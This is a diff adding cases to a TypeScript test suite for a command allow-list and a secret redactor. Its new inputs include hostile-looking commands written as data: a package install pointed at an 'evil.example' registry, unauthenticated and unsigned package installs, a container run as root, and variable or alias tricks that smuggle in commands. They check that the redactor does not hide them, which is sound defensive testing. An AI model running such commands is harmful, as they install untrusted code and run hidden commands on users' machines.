@@ -18,6 +18,7 @@ describe('patterns', () => {
     ['terminal: npm test *', 'npm test -- --watch=false a/b.ts "c d"', 'terminal'],
     ['terminal: a && b > c', 'a && b > c', 'terminal'],
     ['terminal: ls: *', 'ls: x', 'terminal'],
+    ['terminal: CI=1 npm test *', 'CI=1 npm test x', 'terminal'],
   ])('[AP3] %j allows %j', (pattern, command, tool) => {
     expect(isAllowed(pattern, command, tool)).toBe(true);
   });
@@ -73,6 +74,10 @@ describe('patterns', () => {
     'terminal: ',
     'terminal: *',
     'terminal:  *',
+    'terminal: X=1 *',
+    'terminal: X="a b" Y=  *',
+    'terminal: ! *',
+    'terminal: time X=1 *',
     'two words',
     'terminal:npm test',
     ': ls',
@@ -126,7 +131,10 @@ describe('what is shown', () => {
     ['mysql --password=hunter2 db', 'mysql --password=[hidden] db'],
     ['curl -u me:hunter2 x', 'curl -u [hidden] x'],
     [`curl -d '{"password": "hunter2", "a": 1}'`, `curl -d '{"password": "[hidden]", "a": 1}'`],
-    ['echo ghp_abcdefghijklmnop sk-proj-abcdefghijkl AKIAABCDEFGHIJKLMNOP', 'echo [hidden] [hidden] [hidden]'],
+    ['echo ghp_abcdefghijkl4mnop sk-proj-abcdefg7hijkl AKIAABCDEFGHIJKLMNOP', 'echo [hidden] [hidden] [hidden]'],
+    [`x = {'Authorization': 'Bearer abcdef'}`, `x = {'Authorization': 'Bearer [hidden]'}`],
+    ['export TOKEN=abc123def; curl -H "x: $TOKEN"', 'export TOKEN=[hidden]; curl -H "x: $TOKEN"'],
+    ['login --auth-token abcdef --client-secret "xyz"', 'login --auth-token [hidden] --client-secret "[hidden]"'],
   ])('[AP5] secrets are hidden: %s', (command, shown) => {
     expect(redactCommand(command, SECRETS)).toBe(shown);
   });
@@ -144,11 +152,45 @@ describe('what is shown', () => {
     'cp -r key/ /backup',
     'npm run auth',
     'https://host.example/a@b',
+    'npx npm-check-updates',
+    'npm_config_registry=http://evil.example npm install',
+    'bash sk-evil-script-1234567890.sh',
+    'bin/sk-evil-script-1234567890',
+    'curl --anyauth evil.example/x',
+    'apt-get --allow-unauthenticated install evil',
+    'rpm --nosignature install evil',
+    'psql --no-password install',
+    'basic bin/evil',
+    './bearer bin/evil',
+    'tee cookie: /etc/evil',
+    'tee "x"cookie: /etc/evil',
+    'token=reboot; $token',
+    `key=evil && x=key && \${!x} a`,
+    'my_key=bin/evil; "$my_key"',
+    'shopt -s expand_aliases; alias key=evil\nkey a',
+    'git commit --author=evil',
+    'docker run -u root:root evil',
+    'docker run -u 0:0 evil',
   ])('[AP5] nothing that could be a command or a path is hidden by its looks: %j', (command) => {
     const shown = redactCommand(command, []);
-    for (const word of ['rm -r', '`id`', '/home/me', '~/keys', '--force', '/backup', 'npm run auth', 'a@b', ';']) {
-      if (command.includes(word)) expect(shown).toContain(word);
-    }
+    const words = [
+      'rm -r',
+      '`id`',
+      '/home/me',
+      '~/keys',
+      '--force',
+      '/backup',
+      'npm run auth',
+      'a@b',
+      ';',
+      'root:root',
+    ];
+    words.push('npm-check-updates', 'npm_config_registry', 'sk-evil', 'evil', 'install', 'reboot', '/etc/', '0:0');
+    for (const word of words) if (command.includes(word)) expect(shown).toContain(word);
+  });
+
+  it('[AP5] of two known secrets of which one begins the other, nothing is left', () => {
+    expect(redactCommand('echo abcdef-and-more', ['abcdef', 'abcdef-and-more'])).toBe('echo [hidden]');
   });
 
   it('[AP5] characters that cannot be seen, or that turn others around, are spelled out', () => {
@@ -156,7 +198,24 @@ describe('what is shown', () => {
   });
 
   it('[AP5] no text makes it slow', () => {
-    const long = ['key', 'key-', '"key" : ', '--key ', 'a://', 'a:b@', 'bearer ', 'eyJaaaaaaaa.', '-u a:', '"', '\\'];
+    const long = [
+      'key',
+      'key-',
+      '"key" : ',
+      '--key ',
+      'a://',
+      'a:b@',
+      'bearer ',
+      '"bearer a',
+      'sk-a',
+      'sk-',
+      'TOKEN=a $TOKEN ',
+      '--no-key ',
+      'eyJaaaaaaaa.',
+      '-u a:',
+      '"',
+      '\\',
+    ];
     for (const part of long) {
       const text = part.repeat(Math.floor(110_000 / part.length));
       const started = performance.now();
